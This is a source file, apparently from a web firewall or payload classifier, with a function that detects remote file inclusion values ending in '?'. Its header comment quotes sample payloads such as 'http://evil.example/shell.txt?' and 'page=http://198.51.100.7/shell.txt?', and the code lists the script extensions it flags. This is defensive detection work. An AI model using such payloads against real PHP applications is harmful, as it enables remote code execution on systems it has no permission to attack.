// Remote file inclusion: a value that is the URL of a script or a text file on a host, ended by `?`
// (`http://evil.example/shell.txt?`). An application that includes `$_GET['page'] . '.php'` fetches
// the file and runs it; the `?` makes what the application appends the URL's query. CRS 931120
// blocks any URL that ends with `?` at paranoia level 1; this is narrower: a file whose extension is
// a script's or text's must end the path, so a callback URL with an empty query
// (`https://app.example.com/callback?`) is left to the model. The model scored
// `page=http://198.51.100.7/shell.txt?` 99. Read by core/payloads.ts; total and allocation-free.

import { extensionStart, isOneOf, skipBlanks, startsOneOf } from "../lib/bytes";

const SCHEMES: StaticArray<string> = ["http://", "https://", "ftp://", "ftps://"];
// Lower case; compared without case.
const EXTENSIONS: StaticArray<string> = [
  "txt", "php", "php3", "php4", "php5", "php7", "phtml", "phps", "inc", "asp", "aspx", "jsp", "pl", "py", "cgi", "sh",
];

export function remoteInclude(p: usize, n: i32): bool {
  if (n < 12 || load<u8>(p + <usize>(n - 1)) != 0x3F) return false; // ends with '?'
  let i = skipBlanks(p, n, 0);
  if (!startsOneOf(p, n, i, SCHEMES)) return false;
  // Past the scheme's "://" (startsOneOf found one).
  let host = i;
  while (load<u8>(p + <usize>host) != 0x2F) host++;
  host += 2;
  let e = n;
  while (e > host && load<u8>(p + <usize>(e - 1)) == 0x3F) e--;
  // The path's last segment, after a '/' that is not the scheme's.
  let s = e;
  while (s > host && load<u8>(p + <usize>(s - 1)) != 0x2F) s--;
  if (s <= host) return false;
  // No query or fragment before the '?'s: the file ends the path.
  for (let k = host; k < e; k++) {
    let c = load<u8>(p + <usize>k);
    if (c == 0x3F || c == 0x23 || c <= 0x20) return false;
  }
  let x = extensionStart(p, s, e);
  return x > 0 && isOneOf(p, n, x, e - x, EXTENSIONS);
}
